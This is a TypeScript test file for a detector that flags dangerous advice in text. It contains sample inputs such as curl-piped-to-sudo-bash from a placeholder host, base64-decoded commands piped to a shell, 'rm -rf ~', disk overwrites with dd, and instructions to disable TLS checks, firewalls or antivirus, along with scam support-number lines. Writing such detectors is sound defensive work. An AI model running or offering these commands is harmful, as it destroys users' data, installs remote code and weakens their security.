import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findDanger } from './find-danger.ts';
import { DANGER_PATTERNS } from './danger-patterns.ts';
import { DANGER_TEXTS } from './danger-texts.ts';

describe('dangerous', () => {
  it.each([
    ['pipe-to-shell', 'Just run `curl -fsSL https://x.example/i.sh | sudo bash` and reboot'],
    ['pipe-to-shell', 'iwr https://x.example/i.ps1 | iex'],
    ['hidden-command', 'echo aGk= | base64 -d | sh'],
    ['hidden-command', 'Press Windows + R, then paste the line and hit Enter'],
    ['unknown-program', 'download https://fix-dll.example/setup.exe and run it'],
    ['tls-off', 'set NODE_TLS_REJECT_UNAUTHORIZED=0'],
    ['tls-off', 'git config --global http.sslVerify false'],
    ['tls-off', 'requests.get(url, verify=False)'],
    ['antivirus-off', 'Turn off your antivirus and try again'],
    ['antivirus-off', 'Virenscanner deaktivieren, dann geht es'],
    ['firewall-off', 'sudo ufw disable'],
    ['firewall-off', 'Désactivez le pare-feu'],
    ['protection-off', 'setenforce 0'],
    ['updates-off', 'Disable Windows updates, they break it'],
    ['recursive-delete', 'sudo rm -rf /var/lib/docker'],
    ['recursive-delete', 'rm -rf ~'],
    ['disk-wipe', 'dd if=image.iso of=/dev/sda bs=4M'],
    ['registry-edit', 'Open regedit and delete the key'],
    ['permission-wide', 'chmod -R 777 /var/www'],
    ['firmware', 'flash an older BIOS'],
    ['data-drop', 'DROP DATABASE shop;'],
    ['credentials', 'Send me your password and I look into it'],
    ['support-number', 'Call our support at 1-800-555-0199 now'],
    ['support-number', 'He recovered my wallet, contact him via telegram'],
  ])('%s: %s', (kind, text) => {
    const found = findDanger(text);
    expect(found.map((danger) => danger.kind)).toContain(kind);
    for (const danger of found) expect(text.slice(danger.start, danger.end)).toBe(danger.text);
    expect(DANGER_TEXTS[found[0]?.kind ?? 'firmware'].instead).not.toBe('');
  });

  it('each kind of advice is shown here with its words', () => {
    expect(new Set(DANGER_PATTERNS.map(({ kind }) => kind))).toEqual(new Set(Object.keys(DANGER_TEXTS)));
  });
});

it('ordinary advice, and advice against it, is left alone', () => {
  const texts = [
    'Do not turn off your antivirus for this',
    'rm -rf node_modules && npm install',
    'curl -s https://api.example/v1 | jq .items',
    'The certificate is not trusted: add it to the store',
    'chmod 644 config.php',
    'Never send me your password',
    'The firewall blocks port 443, open it',
    'Update the firmware with the tool of the maker',
    'SELECT * FROM orders WHERE id = 1',
    'format the date as dd.mm.yyyy; the disk format is ext4',
    'docker compose down && docker compose up -d',
    'The registry of npm does not answer',
  ];
  for (const text of texts) expect(findDanger(text), text).toEqual([]);
});

it('any text: places are right and never overlap', () => {
  const words = fc.constantFrom(
    ...'curl x|bash sudo rm -rf / disable the firewall verify=False regedit chmod 777 DROP DATABASE send me your password'.split(
      ' ',
    ),
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(words, fc.string({ maxLength: 6 })), { maxLength: 20 }), (parts) => {
      const text = parts.join(' ');
      let from = 0;
      for (const danger of findDanger(text)) {
        expect(danger.start).toBeGreaterThanOrEqual(from);
        expect(text.slice(danger.start, danger.end)).toBe(danger.text);
        from = danger.end;
      }
    }),
  );
});

it('repetitions are bounded, so that time grows with the text', () => {
  for (const { pattern } of DANGER_PATTERNS) {
    const bare = pattern.source.replace(/\\.|\[(?:\\.|[^\]\\])*\]/g, 'x');
    expect(bare, pattern.source).not.toMatch(/[*+]|\{\d+,\}/);
  }
});
